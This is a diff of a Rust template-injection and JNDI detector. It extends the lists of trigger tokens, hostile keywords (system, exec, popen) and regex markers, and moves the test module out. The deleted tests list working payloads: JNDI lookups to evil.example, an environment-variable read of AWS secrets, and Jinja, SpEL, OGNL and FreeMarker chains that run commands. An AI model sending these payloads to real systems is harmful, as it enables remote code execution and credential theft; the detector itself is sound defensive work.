@@ -11,7 +11,7 @@ use std::sync::LazyLock;
 use aho_corasick::{AhoCorasick, AhoCorasickKind, Input, MatchKind};
 
 use super::super::{Category, Rule};
-use super::text::RuleSet;
+use super::text::{before, is_word, RuleSet};
 use super::Out;
 
 static JNDI: Rule = Rule {
@@ -106,10 +106,14 @@ pub(super) const TRIGGERS: &[&str] = &[
     "_self",
     "dump(app)",
     "#foreach",
+    "@(",
+    "@{",
+    "smarty",
+    "#with",
 ];
 
 /// Template delimiters, in the order of `Opener`.
-const OPENERS: &[&str] = &["${", "{{", "{%", "#{", "%{", "*{", "<%"];
+const OPENERS: &[&str] = &["${", "{{", "{%", "#{", "%{", "*{", "<%", "@(", "@{"];
 
 static OPENER_AC: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
     AhoCorasick::builder().match_kind(MatchKind::LeftmostFirst).kind(Some(AhoCorasickKind::DFA)).build(OPENERS).ok()
@@ -201,6 +205,15 @@ const HOSTILE: &[&str] = &[
     "kernel.",
     "iteritems(",
     "getenv",
+    "'.to",
+    "\".to",
+    "app.request",
+    "'system'",
+    "\"system\"",
+    "'passthru'",
+    "'exec'",
+    "'shell_exec'",
+    "'popen'",
     "environ",
     "#this",
     "#root",
@@ -219,7 +232,7 @@ static MARKERS: LazyLock<RuleSet> = LazyLock::new(|| {
         (r"(?i)\bt\s*\(\s*java\.|\bnew\s+java\.(?:lang|io|net|util)\.|\.getclass\(\s*\)\s*\.forname\(", &SPEL),
         (r"(?i)\bclass\.(?:module\.)?classloader\b", &CLASSLOADER),
         (
-            r"(?i)<#assign\b|<#include\b|freemarker\.template\.utility|\?new\s*\(|#set\s*\(\s*\$|\$class\.inspect|\{php\}|\{system\s*\(|\{\$smarty\.|\{\{\s*_self\b|registerundefinedfiltercallback|\{\{\s*app\.request\.server|\bdump\s*\(\s*app\s*\)|#foreach\s*\(\s*\$",
+            r"(?i)<#assign\b|<#include\b|freemarker\.template\.utility|\?new\s*\(|#set\s*\(\s*\$|\$class\.inspect|\{php\}|\{system\s*\(|\{\$smarty\.|\{\{\s*_self\b|registerundefinedfiltercallback|\{\{\s*app\.request\.server|\bdump\s*\(\s*app\s*\)|#foreach\s*\(\s*\$|smarty_internal_write_file|\{\{\s*#with\s+['\x22][^'\x22]*['\x22]\s+as\s+\||\$\{\{<%\[%'\x22\}\}%\\",
             &ENGINE,
         ),
     ])
@@ -251,6 +264,7 @@ pub(super) fn scan(out: &mut Out<'_, '_>) {
             1 => closed(b, p + 2, limit, b"}}"),
             2 => closed(b, p + 2, limit, b"%}"),
             6 => closed(b, p + 2, limit, b"%>"),
+            7 => parened(b, p + 2, limit),
             _ => braced(b, p + 2, limit),
         };
         out.work(end.saturating_sub(p));
@@ -266,6 +280,25 @@ fn closed<'b>(b: &'b [u8], from: usize, limit: usize, close: &[u8]) -> (&'b [u8]
         Some(p) => (window.get(..p).unwrap_or_default(), from + p + close.len()),
         None => (window, limit),
     }
+}
+
+/// The content up to the matching `)` (nesting counted), and the index after it.
+fn parened(b: &[u8], from: usize, limit: usize) -> (&[u8], usize) {
+    let mut depth = 1;
+    let window = b.get(from..limit).unwrap_or_default();
+    for (k, &c) in window.iter().enumerate() {
+        match c {
+            b'(' => depth += 1,
+            b')' => {
+                depth -= 1;
+                if depth == 0 {
+                    return (window.get(..k).unwrap_or_default(), from + k + 1);
+                }
+            }
+            _ => {}
+        }
+    }
+    (window, limit)
 }
 
 /// The content up to the matching `}` (nesting counted), and the index after it.
@@ -309,29 +342,63 @@ fn judge(content: &[u8], opener: usize, out: &mut Out<'_, '_>) {
     }
 }
 
-/// `7*7`, `7*'7'`, `1+1`, `{7*7}`: numbers (maybe quoted) on both sides of an operator. Returns the
-/// level: 1 for `*` and `+`, 2 for the others.
+/// `7*7`, `7*'7'`, `1+1`, `x = 7*7;`: numbers (maybe quoted) on both sides of an operator,
+/// anywhere in the expression. Returns the level: 1 for `*` and `+`, 2 for the others (`2024-01-01`
+/// is a date as often as a subtraction).
 fn arithmetic(e: &[u8]) -> Option<u8> {
-    let e = e.strip_prefix(b"{").unwrap_or(e);
-    let e = e.strip_suffix(b"}").unwrap_or(e).trim_ascii();
-    let number = |s: &[u8]| {
-        let s = s.trim_ascii();
-        let s = s.strip_prefix(b"'").and_then(|x| x.strip_suffix(b"'")).unwrap_or(s);
-        let s = s.strip_prefix(b"\"").and_then(|x| x.strip_suffix(b"\"")).unwrap_or(s);
-        !s.is_empty() && s.len() <= 12 && s.iter().all(|c| c.is_ascii_digit() || *c == b'.')
-    };
-    let op = e.iter().skip(1).position(|c| matches!(c, b'*' | b'+' | b'-' | b'/' | b'%'))? + 1;
-    let (left, right) = (e.get(..op)?, e.get(op + 1..)?);
-    let right = right.strip_prefix(b"*").unwrap_or(right);
-    if !(number(left) && number(right)) {
+    let mut found = None;
+    let mut i = 0;
+    while i < e.len() {
+        let fresh = i == 0 || before(e, i).is_some_and(|c| !is_word(c) && c != b'.');
+        let Some(end) = number_at(e, i).filter(|_| fresh) else {
+            i += 1;
+            continue;
+        };
+        let j = skip_spaces(e, end);
+        if let Some(&op) = e.get(j).filter(|c| matches!(c, b'*' | b'+' | b'-' | b'/' | b'%')) {
+            let mut k = skip_spaces(e, j + 1);
+            if op == b'*' && e.get(k) == Some(&b'*') {
+                k = skip_spaces(e, k + 1);
+            }
+            if let Some(end2) = number_at(e, k) {
+                if !e.get(end2).copied().is_some_and(is_word) {
+                    let level = if matches!(op, b'*' | b'+') { 1 } else { 2 };
+                    found = Some(found.map_or(level, |f: u8| f.min(level)));
+                }
+            }
+        }
+        i = end.max(i + 1);
+    }
+    found
+}
+
+fn skip_spaces(e: &[u8], mut i: usize) -> usize {
+    while e.get(i).is_some_and(u8::is_ascii_whitespace) {
+        i += 1;
+    }
+    i
+}
+
+/// A number at `i` (digits with an optional fraction, maybe in quotes); the index after it.
+fn number_at(e: &[u8], i: usize) -> Option<usize> {
+    let quote = e.get(i).copied().filter(|c| matches!(c, b'\'' | b'"'));
+    let start = i + usize::from(quote.is_some());
+    let digits = e.get(start..).unwrap_or_default().iter().take_while(|c| c.is_ascii_digit() || **c == b'.').count();
+    if digits == 0 || digits > 12 || !e.get(start).is_some_and(u8::is_ascii_digit) {
         return None;
     }
-    Some(if matches!(e.get(op), Some(b'*' | b'+')) { 1 } else { 2 })
+    let end = start + digits;
+    match quote {
+        Some(q) if e.get(end) == Some(&q) => Some(end + 1),
+        Some(_) => None,
+        None => Some(end),
+    }
 }
 
 /// `{{config}}`, `{{self}}`, `${_self}`: an object that exposes the application.
 fn bare_object(e: &[u8]) -> bool {
-    const OBJECTS: &[&[u8]] = &[b"config", b"self", b"_self", b"settings", b"globals", b"this", b"request.environ"];
+    const OBJECTS: &[&[u8]] =
+        &[b"config", b"self", b"_self", b"settings", b"globals", b"this", b"request", b"request.environ"];
     OBJECTS.iter().any(|o| o.eq_ignore_ascii_case(e))
 }
 
@@ -468,85 +535,4 @@ fn key_class(text: &[u8]) -> Found {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::super::testing::{blocks, ids, ids_at};
-    use crate::inspect::detect::TargetKind;
-
-    #[test]
-    fn patterns_compile() {
-        assert!(super::MARKERS.compiled());
-        assert!(super::OPENER_AC.is_some() && super::HOSTILE_AC.is_some());
-    }
-
-    #[test]
-    fn injections_are_detected_at_level_1() {
-        for p in [
-            "${jndi:ldap://evil.example/a}",
-            "${jndi:rmi://evil.example/a}",
-            "${${lower:j}ndi:ldap://x/a}",
-            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
-            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
-            "${j${k8s:k5:-ND}i:ldap://x/a}",
-            "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
-            "${${upper:j}ndi:dns://x}",
-            "${JNDI:LDAP://x}",
-            "${env:AWS_SECRET_ACCESS_KEY}",
-            "{{7*7}}",
-            "{{ 7 * '7' }}",
-            "${7*7}",
-            "#{7*7}",
-            "${{7*7}}",
-            "{{config}}",
-            "{{config.items()}}",
-            "{{self.__init__.__globals__}}",
-            "{{''.__class__.__mro__[1].__subclasses__()}}",
-            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
-            "{% for key, value in config.iteritems() %}{{ key|e }}{% endfor %}",
-            "${T(java.lang.Runtime).getRuntime().exec('id')}",
-            "T(java.lang.System).getenv()",
-            "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
-            "${\"\".getClass().forName(\"java.lang.Runtime\")}",
-            "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
-            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
-            "@java.lang.Runtime@getRuntime().exec('id')",
-            "<%= 7*7 %>",
-            "<%= system('id') %>",
-            "<%= `ls` %>",
-            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
-            "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
-            "{php}echo `id`;{/php}",
-            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
-            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
-            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
-        ] {
-            assert!(blocks(p, TargetKind::QueryValue), "{p:?}: {:?}", ids_at(p, TargetKind::QueryValue, 4));
-        }
-    }
-
-    #[test]
-    fn benign_templating_passes_at_level_1() {
-        for p in [
-            "Hello {{name}}, your order {{order.id}} shipped",
-            "{{#each items}}{{this.title}}{{/each}}",
-            "Set ${HOME} in your shell profile",
-            "const greeting = `Hello, ${name}!`;",
-            "puts \"Hello #{user.name}\"",
-            "SELECT * FROM t WHERE id = #{id}",
-            "Use {% raw %} blocks in Jinja",
-            "Price: ${price}",
-            "{ \"a\": { \"b\": 1 } }",
-            "{{ value|e }}",
-            "50% {of} the time",
-            "<% if logged_in %>Hi<% end %>",
-        ] {
-            assert!(!blocks(p, TargetKind::JsonString), "{p:?}: {:?}", ids(p));
-        }
-    }
-
-    #[test]
-    fn looser_levels_catch_more() {
-        assert!(ids_at("{{ format(date) }}", TargetKind::JsonString, 2).contains(&6101));
-        assert!(ids_at("{{ 10-2 }}", TargetKind::JsonString, 2).contains(&6101));
-        assert!(ids_at("{{ x['a'] }}", TargetKind::JsonString, 3).contains(&6201));
-    }
-}
+mod tests;
